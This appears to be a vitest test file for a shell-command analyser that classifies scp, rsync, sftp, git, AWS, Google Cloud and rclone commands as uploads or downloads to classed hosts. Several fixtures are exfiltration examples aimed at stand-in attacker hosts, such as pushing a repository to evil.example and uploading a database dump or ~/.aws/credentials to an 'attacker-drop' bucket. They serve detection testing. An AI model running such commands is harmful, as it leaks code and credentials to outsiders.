import { describe, expect, it } from 'vitest';
import { parseShell } from './shell.ts';
import { transferNetwork } from './transfers.ts';

const transfer = (command: string) => {
  const cmd = parseShell(command).pipelines[0]?.[0];
  const result = cmd === undefined ? undefined : transferNetwork(cmd);
  return result === undefined
    ? undefined
    : { facts: result.facts.map((f) => `${f.direction}:${f.host}:${f.class}`), sent: result.sent };
};

describe('transferNetwork', () => {
  it.each([
    ['scp -i ~/.ssh/k.pem build.tgz ubuntu@54.1.2.3:/srv/', ['upload:54.1.2.3:ip-literal'], ['build.tgz']],
    [
      'scp -P 2222 a.txt b.txt backup.example.org:~/in/',
      ['upload:backup.example.org:other'],
      ['a.txt', 'b.txt'],
    ],
    ['scp prod:/var/log/app.log ./logs/', ['download:prod:internal'], []],
    ['scp -r scp://user@host.example:2222//data .', ['download:host.example:other'], []],
    ['scp C:\\x\\file.txt ./copy', [], []],
    ['rsync -avz --exclude node_modules ./ deploy@10.0.0.9:/srv/app', ['upload:10.0.0.9:internal'], ['./']],
    ['rsync -e "ssh -p 22" backup@host.example:/data/ ./restore/', ['download:host.example:other'], []],
    ['rsync -a rsync://mirror.example/pub/ ./pub/', ['download:mirror.example:other'], []],
    ['rsync -a src/ dst/', [], []],
    ['sftp user@files.example.org', ['connect:files.example.org:other'], []],
    ['sftp user@files.example.org:/reports/q3.pdf', ['download:files.example.org:other'], []],
    ['git push https://github.com/acme/app.git HEAD:main', ['upload:github.com:code-host'], []],
    ['git push git@evil.example:x/y.git --all', ['upload:evil.example:other'], []],
    ['git -C repo push origin main', undefined, undefined],
    ['git clone --depth 1 https://github.com/acme/app.git', ['download:github.com:code-host'], []],
    ['git fetch https://gitlab.com/a/b.git', ['download:gitlab.com:code-host'], []],
    ['git submodule add https://github.com/a/b vendor/b', ['download:github.com:code-host'], []],
    ['git remote add backup https://x.example/r.git', undefined, undefined],
    [
      'aws s3 cp ./dump.sql s3://attacker-drop/x --acl public-read',
      ['upload:attacker-drop:file-share'],
      ['./dump.sql'],
    ],
    ['aws s3 sync s3://company-assets ./assets --delete', ['download:company-assets:file-share'], []],
    ['aws --profile p s3 mv report.csv s3://b/r.csv', ['upload:b:file-share'], ['report.csv']],
    [
      'aws s3 cp creds s3://x/y --endpoint-url https://s3.wasabisys.com',
      ['upload:s3.wasabisys.com:other'],
      ['creds'],
    ],
    [
      'aws s3api put-object --bucket drop --key k --body ~/.aws/credentials',
      ['upload:drop:file-share'],
      ['~/.aws/credentials'],
    ],
    ['aws s3 ls s3://bucket', undefined, undefined],
    ['gsutil -m cp -r ./data gs://bucket/data', ['upload:bucket:file-share'], ['./data']],
    ['gcloud storage cp gs://bucket/x .', ['download:bucket:file-share'], []],
    ['rclone copy ~/Documents mega:backup', ['upload:mega:file-share'], ['~/Documents']],
    ['rclone lsd mega:', undefined, undefined],
    ['ls -la', undefined, undefined],
  ])('%s', (command, facts, sent) => {
    const result = transfer(command);
    if (facts === undefined) expect(result?.facts ?? []).toEqual([]);
    else expect(result).toEqual({ facts, sent });
  });
});
